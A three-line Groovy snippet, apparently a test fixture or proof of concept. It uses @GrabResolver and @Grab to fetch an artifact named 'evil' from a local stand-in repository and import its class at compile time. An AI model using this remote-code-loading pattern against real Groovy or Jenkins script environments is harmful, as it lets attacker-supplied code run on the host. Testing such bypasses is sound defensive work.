@GrabResolver(name = 'evil', root = 'http://localhost:55555/')
@Grab('org.example:evil:1.0')
import org.example.Evil
